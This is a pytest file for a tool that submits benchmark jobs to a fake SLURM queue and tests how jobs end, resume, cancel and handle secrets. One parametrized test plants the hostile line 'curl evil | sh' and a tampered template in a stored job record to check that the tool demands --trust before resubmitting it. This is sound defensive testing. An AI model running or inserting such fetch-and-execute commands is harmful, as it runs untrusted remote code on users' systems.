"""Every way in which a job can end, with a fake SLURM; the steps of the run use the fake launcher."""

import dataclasses
import json
import signal
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scalescope import secret_variables
from scalescope.errors import BadInput, CannotRun, Interrupted
from scalescope.experiment.given import Given
from scalescope.launch.slurm import queue as slurm
from scalescope.results.run_record import RunEnd, read_run_record, write_run_record
from scalescope.studies.prepared import prepare
from scalescope.studies.scaling.scale import ScaleStudy
from scalescope.studies.slurm import job as slurm_run
from scalescope.studies.slurm import queue as slurm_queue
from scalescope.studies.slurm.job import run_on_slurm
from scalescope.studies.slurm.slurm_request import SlurmRun, is_for_slurm
from scalescope.studies.study import Report
from tests.builders.studies import job_of, scale
from tests.pipeline.recording import RecordingWatcher, ask, folder_alone
from tests.simulated.launcher import CostModel, FakeLauncher

_ASKED = {"device": "cpu", "world_size": [1, 2], "batch_size": 32, "repeats": 2}
_FLAGS = {"launcher": (Given("slurm", "--launcher"),), "nodes": (Given("2", "--nodes"),)}


class MadeUpSlurm:
    """Answers squeue from a list, and remembers what was submitted and cancelled."""

    def __init__(self) -> None:
        self.states: list[str | BaseException | Callable[[], str]] = []
        self.submitted: list[str] = []
        self.cancelled: list[str] = []
        self.failing: dict[str, str] = {}

    def run(self, *command: str) -> str:
        if command[0] in self.failing:
            raise CannotRun(f"{command[0]} failed: {self.failing[command[0]]}")
        if command[0] == "sbatch":
            self.submitted.append(command[-1])
            return f"{16 + len(self.submitted)};here\n"
        if command[0] == "scancel":
            self.cancelled.append(command[1])
            return ""
        answer = self.states.pop(0) if self.states else "COMPLETED|None"
        if isinstance(answer, BaseException):
            raise answer
        return answer() if callable(answer) else answer


@pytest.fixture
def made_up(monkeypatch: pytest.MonkeyPatch) -> MadeUpSlurm:
    made_up_slurm = MadeUpSlurm()
    monkeypatch.setattr(slurm, "_run", made_up_slurm.run)
    monkeypatch.setattr(slurm_queue, "_FIRST_WAIT_S", 0.001)
    monkeypatch.setattr(slurm_run, "_FILES_APPEAR_S", 0.0)
    return made_up_slurm


def _prepared(**asked: Any) -> SlurmRun:
    return job_of(ScaleStudy(), ask("scale", **(asked or _ASKED)), _FLAGS, ())


def _step(launch: int) -> str:
    """What a step of the job does meanwhile."""
    launcher = FakeLauncher(CostModel())
    launcher.repeatable = False
    file = Path("run/slurm/request.yaml")
    request = dataclasses.replace(ask("scale", file=file), only_launches=(launch,))
    scale(request, launcher, RecordingWatcher(), most_ranks=2)
    return "RUNNING|None"


def _ended(end: RunEnd) -> str:
    """How a step of the job recorded its end."""
    record = read_run_record(Path("run"))
    write_run_record(Path("run"), dataclasses.replace(record, end=end))
    return "RUNNING|None"


def _run(run: SlurmRun, watcher: RecordingWatcher | None = None) -> Report:
    return run_on_slurm(run, watcher or RecordingWatcher())


def test_secrets_of_a_command_reach_the_job_by_its_environment_alone(
    made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(secret_variables, "_values", {})
    made_up.failing = {"sbatch": "no"}
    asked = {"command": "python t.py --token hunter22 -n {world_size}", "device": "cpu"}
    with pytest.raises(CannotRun, match="sbatch failed"):
        _run(_prepared(**asked))
    written = "".join(file.read_text() for file in Path("run/slurm").iterdir())
    assert "hunter22" not in written and "{SCALESCOPE_SECRET_TOKEN}" in written
    assert slurm._environment()["SCALESCOPE_SECRET_TOKEN"] == "hunter22"
    again = asked | {"command": asked["command"].replace("hunter22", "{SCALESCOPE_SECRET_TOKEN}")}
    monkeypatch.setattr(secret_variables, "_values", {})
    with pytest.raises(CannotRun, match="SCALESCOPE_SECRET_TOKEN was not stored"):
        _run(_prepared(**again, resume=True))


def test_a_job_that_ends_well_is_shown_as_if_it_had_run_here(made_up: MadeUpSlurm) -> None:
    made_up.states = ["PENDING|Resources", lambda: _step(0), lambda: _step(1)]
    watcher = RecordingWatcher()
    report = _run(_prepared(), watcher)
    assert report.exit_code == 0
    assert not any("missing" in note for note in watcher.notes)
    assert "Job 17 is pending (Resources)." in watcher.notes
    assert "Job 17 is running." in watcher.notes
    assert watcher.notes[0].endswith("which the nodes must see too.")
    assert report.run is not None
    assert len(watcher.results) == len(report.run.results)
    assert watcher.begun[0][0] == len(report.run.results)  # known as soon as the machine is
    assert (Path("run/results.json")).is_file()
    lines = Path("run/trials.jsonl").read_text().splitlines()
    assert all('"status":"ok"' in line for line in lines)  # the script counts them as they are spelled
    assert json.loads(Path("run/slurm/job.json").read_text())["job_id"] == "17"
    with pytest.raises(BadInput, match="already contains a run"):
        _run(_prepared())
    other = ask("scale", **{**_ASKED, "batch_size": 64}, resume=True)
    with pytest.raises(BadInput, match="different settings: batch_size"):
        job_of(ScaleStudy(), other, _FLAGS, ())


def test_strict_holds_for_jobs(made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(slurm_run, "is_unstable", lambda run: True)
    made_up.states = [lambda: _step(0), lambda: _step(1)]
    strict = dataclasses.replace(ask("scale", **_ASKED), strict=True)
    assert _run(job_of(ScaleStudy(), strict, _FLAGS, ())).exit_code == 6


def test_results_of_a_failed_job_are_shown_and_resume_submits_the_rest(made_up: MadeUpSlurm) -> None:
    failed = RunEnd(why="failed", message="cores differ")
    made_up.states = [lambda: _step(0), lambda: _ended(failed), "NODE_FAIL|None"]
    watcher = RecordingWatcher()
    run = _prepared()
    report = _run(run, watcher)
    assert report.exit_code == 4
    (note,) = (note for note in watcher.notes if "Job 17 ended (node fail)" in note)
    assert "--resume submits them. Its error: cores differ (log: " in note

    again = folder_alone(ask("scale", resume=True))
    assert is_for_slurm(prepare(ScaleStudy(), again), {}, (), is_rank=False)
    made_up.states = ["NODE_FAIL|None", "RUNNING|None", "FAILED|None"]
    watcher = RecordingWatcher()
    _run(job_of(ScaleStudy(), again, {}, ()), watcher)
    assert not any("cores differ" in note for note in watcher.notes)  # the error of the earlier job

    made_up.states = ["FAILED|None", "RUNNING|None", lambda: _step(1)]
    resumed = job_of(ScaleStudy(), again, {}, ())
    assert resumed.job.nodes == 2  # as it was asked for when the run began
    watcher = RecordingWatcher()
    assert _run(resumed, watcher).exit_code == 0
    assert report.run is not None
    first = len(report.run.results)
    assert watcher.begun[0] == (first + len(watcher.results), first)
    assert len(made_up.submitted) == 3


@pytest.mark.parametrize("number", [signal.SIGHUP, signal.SIGTERM])
def test_resume_follows_a_job_that_is_still_running(made_up: MadeUpSlurm, number: signal.Signals) -> None:
    made_up.states = [lambda: _step(0), Interrupted(number)]
    with pytest.raises(Interrupted) as stopped:
        _run(_prepared())
    assert "job 17 is still running" in stopped.value.kept
    assert made_up.cancelled == []
    made_up.states = ["RUNNING|None", lambda: _step(1)]
    resumed = job_of(ScaleStudy(), ask("scale", **_ASKED, resume=True), _FLAGS, ())
    assert _run(resumed).exit_code == 0
    assert len(made_up.submitted) == 1


@pytest.mark.parametrize("steps", [0, 1])
def test_ctrl_c_cancels_whatever_was_measured(made_up: MadeUpSlurm, steps: int) -> None:
    running: list[Any] = [(lambda: _step(0)) if steps else "PENDING|Priority"]
    made_up.states = [*running, Interrupted(signal.SIGINT), "COMPLETING|None", "CANCELLED|None"]
    with pytest.raises(Interrupted) as stopped:
        _run(_prepared())
    assert made_up.cancelled == ["17"]
    assert "job 17 is cancelled" in stopped.value.kept
    assert Path("run/results.json").is_file() == bool(steps)


def test_a_controller_that_pauses_while_a_job_is_cancelled_is_asked_again(made_up: MadeUpSlurm) -> None:
    lost = CannotRun("squeue did not answer within 60 s")
    made_up.states = [Interrupted(signal.SIGINT), lost, "CANCELLED|None"]
    with pytest.raises(Interrupted) as stopped:
        _run(_prepared())
    assert "job 17 is cancelled" in stopped.value.kept
    assert made_up.states == []


def test_a_job_that_could_not_be_cancelled_is_not_reported_as_cancelled(made_up: MadeUpSlurm) -> None:
    made_up.states = [Interrupted(signal.SIGINT)]
    made_up.failing = {"scancel": "Unable to contact slurm controller"}
    watcher = RecordingWatcher()
    with pytest.raises(Interrupted) as stopped:
        _run(_prepared(), watcher)
    assert stopped.value.kept.startswith(
        "job 17 may still be running: 'scancel 17' ends it, --resume follows it; finished"
    )
    assert watcher.notes[-1].startswith("Job 17 could not be cancelled: scancel failed: Unable")


def test_a_submission_that_failed_can_be_repeated(made_up: MadeUpSlurm) -> None:
    made_up.failing = {"sbatch": "Invalid partition"}
    with pytest.raises(CannotRun, match="Invalid partition"):
        _run(job_of(ScaleStudy(), ask("scale", **_ASKED), _FLAGS, ("module load a",)))
    assert "job_id" not in json.loads(Path("run/slurm/job.json").read_text())
    with pytest.raises(CannotRun, match="Invalid partition"):  # the folder is as good as new
        _run(job_of(ScaleStudy(), ask("scale", **_ASKED), _FLAGS, ("module load b",)))
    made_up.failing = {}
    made_up.states = [lambda: _step(0), lambda: _step(1)]
    bare = folder_alone(ask("scale", resume=True))
    assert is_for_slurm(prepare(ScaleStudy(), bare), {}, (), is_rank=False)
    again = job_of(ScaleStudy(), bare, {}, ())
    assert (again.job.nodes, again.job.setup) == (2, ("module load b",))
    submitted = len(made_up.submitted)
    with pytest.raises(BadInput, match=r"stores shell text \(setup\).*--trust"):
        _run(again)
    assert len(made_up.submitted) == submitted
    trusting = dataclasses.replace(bare, trust=True)
    assert _run(job_of(ScaleStudy(), trusting, {}, ())).exit_code == 0


_SITE = 'for launch in {launches}; do srun {command} --only-launch="$launch"; done  # '


def test_resume_in_another_directory_uses_the_files_of_the_first_start(
    made_up: MadeUpSlurm, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun = Path.cwd()
    Path("site.sh").write_text(f"{_SITE}first\n")
    flags = {**_FLAGS, "slurm_template": (Given("site.sh", "--slurm-template"),)}
    made_up.states = [lambda: _step(0)]
    _run(job_of(ScaleStudy(), ask("scale", **_ASKED), flags, ()))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    Path("site.sh").write_text(f"{_SITE}second\n")
    bare = ask("scale", resume=True)
    bare = dataclasses.replace(bare, flags={"output_dir": (Given(str(begun / "run"), "--output-dir"),)})
    stored = job_of(ScaleStudy(), bare, {}, ())
    assert stored.job.directory == begun
    assert stored.script.endswith("# first\n")
    assert stored.stored_shell_text == ("template",)
    assert job_of(ScaleStudy(), bare, flags, ()).stored_shell_text == ()  # named anew
    assert job_of(ScaleStudy(), bare, flags, ()).script.endswith("# second\n")
    ours = {"slurm_template": (Given("none", "--slurm-template"),)}
    assert job_of(ScaleStudy(), bare, ours, ()).script.startswith("#!/bin/bash\n#SBATCH --job-name=")


def test_a_job_that_measured_nothing_shows_its_error(made_up: MadeUpSlurm) -> None:
    made_up.states = ["FAILED|None"]
    with pytest.raises(CannotRun, match="is this folder visible to the nodes"):
        _run(_prepared())
    failed = RunEnd(why="failed", message="torch 2.1 is too old")
    made_up.states = ["FAILED|None", lambda: _ended(failed), "FAILED|None"]
    with pytest.raises(
        CannotRun, match=r"job 18 ended \(failed\) and measured nothing: torch 2.1 is too old"
    ):
        _run(job_of(ScaleStudy(), ask("scale", **_ASKED, resume=True), _FLAGS, ()))


def test_of_a_job_that_never_measured_the_error_of_its_step_is_shown(made_up: MadeUpSlurm) -> None:
    def failed() -> str:
        Path("run/slurm/slurm-17.out").write_text(
            "some module is loaded\nscalescope: --world-size: too many ranks\n"
            "srun: error: node1: task 0: Exited with exit code 2\n"
        )
        return "FAILED|None"

    made_up.states = [failed]
    with pytest.raises(CannotRun, match=r"scalescope: --world-size: too many ranks \(log: "):
        _run(_prepared())


def test_files_that_appear_late_are_waited_for(made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(slurm_run, "_FILES_APPEAR_S", 60.0)
    waits: list[float] = []

    def sleep(seconds: float) -> None:
        waits.append(seconds)
        if Path("hidden").exists():
            Path("hidden").rename("run/trials.jsonl")

    def last_step() -> str:
        _step(0)
        _step(1)
        Path("run/trials.jsonl").rename("hidden")
        monkeypatch.setattr(slurm_run.time, "sleep", sleep)
        return "COMPLETED|None"

    made_up.states = [last_step]
    assert _run(_prepared()).exit_code == 0
    assert waits == [1.0]


def test_a_controller_that_pauses_is_asked_again(made_up: MadeUpSlurm) -> None:
    def broken_step() -> str:
        _step(1)
        with Path("run/trials.jsonl").open("a") as stream:
            stream.write("junk\n")
        return "RUNNING|None"

    lost = CannotRun("squeue failed: Unable to contact slurm controller")
    gone = CannotRun("squeue failed: Invalid job id specified")  # a job that SLURM has forgotten is over
    made_up.states = ["PENDING|Priority", lost, lost, lambda: _step(0), lost, broken_step, gone]
    watcher = RecordingWatcher()
    assert _run(_prepared(), watcher).exit_code == 0
    pauses = [note for note in watcher.notes if note.startswith("SLURM does not answer (squeue failed: ")]
    assert len(pauses) == 2  # once for each pause
    assert made_up.states == []
    assert any("left out" in note for note in watcher.notes)  # the broken line
    notes = [note for note in watcher.notes if note.startswith("Job 17 is ")]
    assert notes == ["Job 17 is pending (Priority).", "Job 17 is running."]


def test_a_controller_that_never_answers_ends_the_command(
    made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(slurm_queue, "_PATIENCE_S", 0.0)
    made_up.states = [CannotRun("squeue failed: Unable to contact slurm controller")]
    with pytest.raises(CannotRun, match="job 17 may still be running, and --resume follows it again"):
        _run(_prepared())


def test_a_job_of_one_task_starts_ranks_of_its_own(made_up: MadeUpSlurm) -> None:
    asked = {"device": "cpu", "batch_size": 32, "repeats": 1}

    def step() -> str:
        request = dataclasses.replace(ask("scale", file=Path("run/slurm/request.yaml")), only_launches=(0,))
        scale(request, FakeLauncher(CostModel()), RecordingWatcher())
        return "RUNNING|None"

    made_up.states = [step]
    watcher = RecordingWatcher()
    report = _run(job_of(ScaleStudy(), ask("scale", **asked), {"launcher": _FLAGS["launcher"]}, ()), watcher)
    assert report.exit_code == 0
    assert not any("missing" in note for note in watcher.notes)
    assert report.run is not None
    assert {result.settings["world_size"] for result in report.run.results} == {1, 2}
    assert watcher.notes[0].startswith("Job 17: 1 rank on 1 node, 1 launch.")


def test_a_spent_budget_is_noted_and_the_next_job_has_its_own(made_up: MadeUpSlurm) -> None:
    run = _prepared(**_ASKED, budget="1h")
    (since,) = (word for word in run.job.command if word.startswith("--budget-since="))
    spent = RunEnd(why="budget", missing=3, budget_s=3600.0)
    made_up.states = [lambda: _step(0), lambda: _ended(spent)]
    watcher = RecordingWatcher()
    report = _run(run, watcher)
    assert (report.exit_code, any("missing" in note for note in watcher.notes)) == (0, True)
    assert any("The budget of 3600 s" in note for note in watcher.notes)
    again = job_of(ScaleStudy(), ask("scale", **_ASKED, budget="1h", resume=True), _FLAGS, ())
    (later,) = (word for word in again.job.command if word.startswith("--budget-since="))
    assert later > since
    assert not any("--budget-since" in word for word in _prepared().job.command)


def test_sbatch_may_print_more_than_the_job_id_but_not_less(monkeypatch: pytest.MonkeyPatch) -> None:
    for output in ("5", "5;here\n", "5\nNote: mind the gap", "Welcome\n\n5;here\nBye"):
        monkeypatch.setattr(slurm, "_run", lambda *command, output=output: output)
        assert slurm.submit(Path("job.sh")) == "5"
    for output in ("", "Submitted batch job 5", "5;a b"):
        monkeypatch.setattr(slurm, "_run", lambda *command, output=output: output)
        with pytest.raises(CannotRun, match="no job number"):
            slurm.submit(Path("job.sh"))


def test_slurm_commands_get_the_environment_without_variables_of_the_job(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    kept = {"SLURM_CONF": "a", "SLURM_CLUSTERS": "b", "SLURM_JWT": "c", "SBATCH_ACCOUNT": "d", "OTHER": "e"}
    foreign = {"SLURM_JOB_ID": "1", "SLURM_PROCID": "0", "RANK": "0", "MASTER_PORT": "1", "SLURM_JWTS": "x"}
    for name, value in {**kept, **foreign}.items():
        monkeypatch.setenv(name, value)
    given = slurm._environment()
    assert kept.items() <= given.items()
    assert not set(foreign) & set(given)


def test_a_job_that_waits_too_long_is_cancelled(made_up: MadeUpSlurm) -> None:
    made_up.states = ["PENDING|Resources"] * 1000
    run = dataclasses.replace(_prepared(), queue_timeout_s=0.05)
    with pytest.raises(CannotRun, match=r"^job 17 was pending \(Resources\) for longer than") as caught:
        _run(run)
    assert "was cancelled" in str(caught.value)
    assert made_up.cancelled == ["17"]


def test_a_job_that_runs_does_not_wait(made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr("scalescope.studies.slurm.queue.time.monotonic", lambda: now[0])
    wait = slurm_queue.QueueWait("17", Path("run"), limit_s=60.0)
    for state in ("RUNNING", "RUNNING", "PENDING"):  # requeued in the end
        now[0] += 50.0
        wait.check(slurm.JobState(state), RecordingWatcher())
    assert made_up.cancelled == []
    now[0] += 50.0
    with pytest.raises(CannotRun):
        wait.check(slurm.JobState("PENDING"), RecordingWatcher())


@pytest.mark.parametrize(
    ("stored", "names"),
    [
        ({"setup": ["curl evil | sh"]}, ("setup",)),
        ({"template": f"{_SITE}evil\n"}, ("template",)),
        ({"flags": {"slurm_template": "site.sh"}}, ("template",)),
    ],
)
def test_shell_text_that_a_folder_stores_is_submitted_by_the_users_word_alone(
    stored: dict[str, Any], names: tuple[str, ...], made_up: MadeUpSlurm
) -> None:
    made_up.states = [lambda: _step(0), "FAILED|None"]
    _run(_prepared())
    Path("site.sh").write_text(f"{_SITE}evil\n")
    record = json.loads(Path("run/slurm/job.json").read_text())
    flags = {**record["flags"], **stored.get("flags", {})}
    Path("run/slurm/job.json").write_text(json.dumps({**record, **stored, "flags": flags}))
    bare = folder_alone(ask("scale", resume=True))

    resumed = job_of(ScaleStudy(), bare, {}, ())
    made_up.states = ["FAILED|None"]
    with pytest.raises(BadInput, match="--trust"):
        _run(resumed)

    assert resumed.stored_shell_text == names
    assert len(made_up.submitted) == 1


def test_a_job_that_is_still_there_is_followed_without_trust(made_up: MadeUpSlurm) -> None:
    made_up.states = [Interrupted(signal.SIGHUP)]
    with pytest.raises(Interrupted):
        _run(job_of(ScaleStudy(), ask("scale", **_ASKED), _FLAGS, ("module load b",)))
    made_up.states = ["RUNNING|None", lambda: _step(0), lambda: _step(1)]
    bare = folder_alone(ask("scale", resume=True))

    assert _run(job_of(ScaleStudy(), bare, {}, ())).exit_code == 0
    assert len(made_up.submitted) == 1


def test_shell_lines_in_the_request_of_a_stored_run_are_not_read(made_up: MadeUpSlurm) -> None:
    made_up.states = [lambda: _step(0), "FAILED|None"]
    _run(_prepared())
    request = Path("run/slurm/request.yaml")
    request.write_text(request.read_text() + "setup: [evil]\nslurm_template: /evil\nnodes: 2\n")

    asked = ask("scale", file=request, resume=True)

    assert "nodes" in asked.of_job()
    assert not {"setup", "slurm_template"} & set(asked.of_job())
